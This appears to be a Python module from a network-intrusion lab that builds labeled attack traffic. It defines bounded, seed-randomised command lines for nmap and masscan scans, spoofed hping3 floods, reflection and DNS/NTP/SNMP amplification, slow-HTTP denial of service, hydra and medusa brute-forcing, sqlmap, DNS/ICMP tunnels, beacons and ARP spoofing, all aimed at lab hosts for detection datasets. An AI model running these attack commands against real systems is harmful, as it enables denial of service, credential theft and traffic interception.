# SPDX-License-Identifier: BSD-3-Clause
"""
Attacks: the tool, its family, its command line with counts and paces drawn by the run's seed, and the tuples by
which its packets are known. All are bounded in count and time and go to addresses of the lab. Used by lab.py.
"""
import pathlib
import sys
from dataclasses import dataclass

from .clients import Event
from .labels import Tuple

INTRUDERS = pathlib.Path(__file__).with_name("intruders.py")
# Names that no machine has: servers of the lab ask the machine's own accounts.
USERS = [f"{name}-of-lab" for name in ("root", "admin", "test", "guest", "oracle", "pi", "backup", "web", "ftp")]
REFLECTOR_PORTS = {"dns": (53, 900, 3800), "ntp": (123, 440, 482), "snmp": (161, 700, 1450)}


@dataclass
class Intruder:
    """An attack's own address and host in a run, and how many packets it may send."""

    lab: object
    host: object
    rng: object
    max_packets: int
    length_s: float

    @property
    def address(self):
        return self.host.address

    def pick(self, service):
        return self.rng.choice(self.lab.reachable(service, self.host))

    def networks(self):
        """Parts of the lab's networks beyond the attacker's own, for sweeps."""
        return self.lab.sweep_networks(self.host)

    def own(self):
        """All that the attacker's address takes part in."""
        return [Tuple(src=self.address)]

    def script(self, function, **arguments):
        return [sys.executable, "-B", INTRUDERS, function] + [f"{key}={value}" for key, value in arguments.items()]

    def words(self, name, words):
        path = self.lab.folder / f"{self.host.name}-{name}.txt"
        path.write_text("\n".join(words) + "\n")
        return path

    def passwords(self, count):
        return self.words("passwords", [f"{self.rng.choice(['summer', 'admin', 'pass', 'qwerty'])}{i}"
                                        for i in range(count)])

    def run(self, command, tuples=None):
        """One command for the attack's whole time."""
        return [Event(0, command, self.length_s)], tuples if tuples is not None else self.own()


def nmap(*options, ports=None, networks=False):
    """A port scan of one host, or a sweep over the servers' and plant's networks."""
    def build(me):
        count = me.rng.choice([100, 300, 1000])
        chosen = ["-p", ports] if ports else [] if networks else ["--top-ports", min(count, me.max_packets // 4)]
        targets = me.rng.sample(me.networks(), 1) if networks else [me.lab.draw_server(me)]
        alive = [] if networks else ["-Pn"]
        return me.run(["nmap", "-n", "--max-retries", "1", *alive, *options, *chosen, *targets])
    return build


def masscan(me):
    command = ["masscan", me.rng.choice(me.networks()), "-p",
               me.rng.choice(["80", "22,80,443", "1-100"]), "--rate", me.rng.choice([100, 500, 1000]), "--wait", "2",
               "--adapter", "eth0", "--adapter-ip", me.address, "--router-mac", me.lab.gateway_mac(me.host),
               "--seed", me.rng.randrange(1, 9999)]
    return me.run(command)


def hping_scan(me):
    return me.run(["hping3", "-q", "--scan", "1-600", me.rng.choice(["-S", "-A", "-F"]), me.lab.draw_server(me)])


def flood(kind, spoofed):
    """hping3 by count and pace, as a rule with a source port for each packet, sometimes all from one."""
    flags = {"syn": ["-S"], "ack": ["-A"], "udp": ["--udp"], "icmp": ["--icmp"]}[kind]
    protocol = {"udp": "udp", "icmp": "icmp"}.get(kind, "tcp")

    def build(me):
        target, port = me.lab.draw_victim(me, protocol)
        gap_us = me.rng.choice([200, 500, 1000, 2000])
        count = min(me.max_packets, int(me.length_s * 0.8e6 / gap_us))
        to_port = [] if kind == "icmp" else ["-p", port]
        same_port = ["-k", "-s", me.rng.randrange(1024, 65536)] if not spoofed and me.rng.random() < 0.25 else []
        size = ["-d", me.rng.choice([0, 64, 512, 1200])] if kind in ("udp", "icmp") else []
        command = ["hping3", "-q", *flags, *to_port, *same_port, *size, "-c", count, "-i", f"u{gap_us}",
                   *(["--rand-source"] if spoofed else []), target]
        if not spoofed:
            return me.run(command)
        port_text = "" if kind == "icmp" else str(port)
        tuples = [Tuple(dst=target, dst_port=port_text, protocol=protocol, is_spoofed=True)]
        if kind == "udp":
            # The target's complaints about a closed port.
            tuples.append(Tuple(dst=target, protocol="icmp", is_spoofed=True))
        return me.run(command, tuples)
    return build


def reflection_tcp(me):
    """SYN in the victim's name to many servers beside the attacker; the capture sees their answers."""
    victim, _ = me.lab.draw_victim(me, "reflection")
    reflectors = me.lab.reflecting_servers
    gap_us = me.rng.choice([500, 1000, 2000])
    count = min(me.max_packets, int(me.length_s * 0.7e6 / gap_us)) // len(reflectors)
    events = [Event(0, ["hping3", "-q", "-S", "-a", victim, "-p", 80, "-c", count, "-i",
                        f"u{gap_us * len(reflectors)}", reflector], me.length_s) for reflector in reflectors]
    return events, [Tuple(src=reflector, src_port="80", dst=victim, protocol="tcp") for reflector in reflectors]


def amplification(kind):
    def build(me):
        port, smallest, largest = REFLECTOR_PORTS[kind]
        victim, _ = me.lab.draw_victim(me, "amplification")
        reflectors = me.rng.sample(me.host.addresses, me.rng.randrange(4, len(me.host.addresses) + 1))
        pace = me.rng.choice([100, 300, 1000])
        return me.run(me.script("amplify", sources=",".join(reflectors), source_port=port, victim=victim,
                                victim_port=me.rng.choice([0, 0, 80, 4444]),
                                n_packets=min(me.max_packets // 3, int(me.length_s * 0.7 * pace)), per_second=pace,
                                smallest=smallest, largest=largest, seed=me.rng.randrange(9999)),
                      [Tuple(src=reflector) for reflector in reflectors])
    return build


def slow_http(option):
    def build(me):
        return me.run(["slowhttptest", option, "-c", me.rng.choice([50, 150, 300]), "-r", me.rng.choice([10, 40]),
                       "-i", me.rng.choice([2, 5, 10]), "-l", int(me.length_s * 0.8), "-u",
                       f"http://{me.pick('nginx')}/login"])
    return build


def hydra(service, server, path=""):
    def build(me):
        users = me.words("users", me.rng.sample(USERS, me.rng.randrange(1, 6)))
        return me.run(["hydra", "-I", "-t", me.rng.choice([1, 4, 8, 16]), "-L", users, "-P", me.passwords(150),
                       f"{service}://{me.pick(server)}{path}"])
    return build


def medusa(module, server):
    def build(me):
        return me.run(["medusa", "-h", me.pick(server), "-U", me.words("users", me.rng.sample(USERS, 3)), "-P",
                       me.passwords(150), "-M", module, "-t", me.rng.choice([1, 3, 6])])
    return build


def telnet_brute(me):
    return me.run(me.script("telnet_brute", source=me.address, server=me.pick("telnet"), n_tries=300,
                            seed=me.rng.randrange(9999)))


def telnet_sweep(me):
    pace = me.rng.choice([20, 60, 150])
    return me.run(me.script("telnet_sweep", source=me.address, networks=",".join(me.networks()),
                            n_addresses=min(me.max_packets // 2, int(pace * me.length_s * 0.8)), per_second=pace,
                            seed=me.rng.randrange(9999)))


def sqlmap(me):
    return me.run(["sqlmap", "-u", f"http://{me.pick('nginx')}/item?id=1", "--batch", "--disable-coloring", "--level",
                   me.rng.choice([1, 2]), "--threads", me.rng.choice([1, 3]), "--output-dir",
                   me.lab.folder / f"sqlmap-{me.host.name}"])


def dirb(me):
    words = me.words("names", [f"{word}{i or ''}" for word in ("admin", "backup", "old", "test", "img", "api", "cgi")
                               for i in range(40)])
    return me.run(["dirb", f"http://{me.pick('nginx')}/", words, "-S", "-r", "-z", me.rng.choice([0, 0, 20])])


def dns_tunnel(me):
    pace = me.rng.choice([5, 20, 60])
    server = me.pick("dnsmasq")
    return me.run(me.script("dns_tunnel", source=me.address, server=server, per_second=pace,
                            per_port=me.rng.choice([1, 1, 20, 100_000]),
                            n_queries=min(me.max_packets // 2, int(pace * me.length_s * 0.8)),
                            seed=me.rng.randrange(9999)), [Tuple(src=me.address, dst=server, dst_port="53")])


def icmp_tunnel(me):
    pace, server = me.rng.choice([10, 40, 100]), me.lab.control_server
    return me.run(me.script("icmp_tunnel", source=me.address, server=server, per_second=pace,
                            n_packets=min(me.max_packets // 2, int(pace * me.length_s * 0.8)),
                            seed=me.rng.randrange(9999)), [Tuple(src=me.address, dst=server, protocol="icmp")])


def beacon(me):
    """A small question to the same server again and again, with jitter."""
    gap_s, server = me.rng.choice([1, 3, 6]), me.lab.control_server
    url = f"{me.rng.choice(['http', 'https'])}://{server}/api.json"
    command = ["curl", "-s", "-k", "-m", "5", "-o", "/dev/null", url]
    events, at = [], 0.0
    while at < me.length_s * 0.9:
        events.append(Event(at, command, 6))
        at += gap_s * me.rng.uniform(0.7, 1.3)
    return events, [Tuple(src=me.address, dst=server, protocol="tcp")]


def arp_spoof(me):
    """On the office's own wire: no flow, and so no label; what is spied on goes on and keeps its own."""
    me.lab.network.forward(me.host.namespace)
    return me.run(["arpspoof", "-i", "eth0", "-t", me.lab.office_address, me.lab.office_gateway], [])


@dataclass
class Attack:
    """A row of ATTACKS: the attacker's subnet, or "any", and the servers without which it is left out."""

    family: str
    program: str
    place: str
    build: object
    services: tuple = ()
    # The attacker's host also does what an office's host does, as one that was taken over.
    is_hidden: bool = False


ATTACKS = {
    "nmap-syn": Attack("scan-port", "nmap", "any", nmap("-sS", "-T4")),
    "nmap-syn-t3": Attack("scan-port", "nmap", "any", nmap("-sS", "-T3")),
    "nmap-syn-t2": Attack("scan-port", "nmap", "any", nmap("-sS", "-T2")),
    "nmap-syn-t1": Attack("scan-port", "nmap", "any", nmap("-sS", "-T1", ports="21-25,80,443,3306,8080")),
    "nmap-syn-t5": Attack("scan-port", "nmap", "any", nmap("-sS", "-T5", ports="1-2000")),
    "nmap-connect": Attack("scan-port", "nmap", "any", nmap("-sT", "-T4")),
    "nmap-ack": Attack("scan-port", "nmap", "any", nmap("-sA", "-T4")),
    "nmap-fin": Attack("scan-port", "nmap", "any", nmap("-sF", "-T4")),
    "nmap-null": Attack("scan-port", "nmap", "any", nmap("-sN", "-T4")),
    "nmap-xmas": Attack("scan-port", "nmap", "any", nmap("-sX", "-T4")),
    "nmap-window": Attack("scan-port", "nmap", "any", nmap("-sW", "-T4")),
    "nmap-udp": Attack("scan-port", "nmap", "any", nmap("-sU", "-T4", "--min-rate", "20")),
    "nmap-version": Attack("scan-port", "nmap", "any", nmap("-sV", "-T4", ports="21-25,53,80,143,443,502,1883")),
    "nmap-sweep-icmp": Attack("scan-host", "nmap", "any", nmap("-sn", "-PE", "-T4", networks=True)),
    "nmap-sweep-syn": Attack("scan-host", "nmap", "any", nmap("-sn", "-PS22,80,443", "-T4", networks=True)),
    "nmap-sweep-ack": Attack("scan-host", "nmap", "any", nmap("-sn", "-PA80", "-T3", networks=True)),
    "nmap-sweep-udp": Attack("scan-host", "nmap", "any", nmap("-sn", "-PU161,40125", "-T4", networks=True)),
    "nmap-network": Attack("scan-host", "nmap", "office",
                           nmap("-Pn", "-sS", "-T4", ports="22,80,445,3389", networks=True)),
    "masscan": Attack("scan-host", "masscan", "any", masscan),
    "hping-scan": Attack("scan-port", "hping3", "any", hping_scan),
    "flood-syn": Attack("flood-syn", "hping3", "any", flood("syn", False)),
    "flood-syn-spoofed": Attack("flood-syn", "hping3", "any", flood("syn", True)),
    "flood-ack": Attack("flood-ack", "hping3", "any", flood("ack", False)),
    "flood-ack-spoofed": Attack("flood-ack", "hping3", "any", flood("ack", True)),
    "flood-udp": Attack("flood-udp", "hping3", "any", flood("udp", False)),
    "flood-udp-spoofed": Attack("flood-udp", "hping3", "any", flood("udp", True)),
    "flood-icmp": Attack("flood-icmp", "hping3", "any", flood("icmp", False)),
    "flood-icmp-spoofed": Attack("flood-icmp", "hping3", "any", flood("icmp", True)),
    "reflection-tcp": Attack("reflection-tcp", "hping3", "internet", reflection_tcp, ("nginx",)),
    "amplification-dns": Attack("amplification-dns", "python3", "internet", amplification("dns")),
    "amplification-ntp": Attack("amplification-ntp", "python3", "internet", amplification("ntp")),
    "amplification-snmp": Attack("amplification-snmp", "python3", "internet", amplification("snmp")),
    "slow-headers": Attack("slow-http", "slowhttptest", "any", slow_http("-H"), ("nginx",)),
    "slow-body": Attack("slow-http", "slowhttptest", "any", slow_http("-B"), ("nginx",)),
    "slow-read": Attack("slow-http", "slowhttptest", "any", slow_http("-X"), ("nginx",)),
    "hydra-ssh": Attack("brute-ssh", "hydra", "any", hydra("ssh", "sshd"), ("sshd",)),
    "medusa-ssh": Attack("brute-ssh", "medusa", "any", medusa("ssh", "sshd"), ("sshd",)),
    "hydra-ftp": Attack("brute-ftp", "hydra", "any", hydra("ftp", "vsftpd"), ("vsftpd",)),
    "medusa-ftp": Attack("brute-ftp", "medusa", "any", medusa("ftp", "vsftpd"), ("vsftpd",)),
    "hydra-http": Attack("brute-http", "hydra", "any", hydra("http-get", "nginx", "/private/"), ("nginx",)),
    "telnet-brute": Attack("brute-telnet", "python3", "any", telnet_brute, ("telnet",)),
    "telnet-sweep": Attack("scan-telnet", "python3", "industrial", telnet_sweep),
    "sqlmap": Attack("scan-web", "sqlmap", "any", sqlmap, ("nginx",)),
    "dirb": Attack("scan-web", "dirb", "any", dirb, ("nginx",)),
    "dns-tunnel": Attack("tunnel-dns", "python3", "office", dns_tunnel, ("dnsmasq",), True),
    "icmp-tunnel": Attack("tunnel-icmp", "python3", "office", icmp_tunnel, ("nginx",), True),
    "beacon": Attack("beacon", "curl", "office", beacon, ("nginx",), True),
    "arp-spoof": Attack("arp-spoof", "arpspoof", "office", arp_spoof),
}
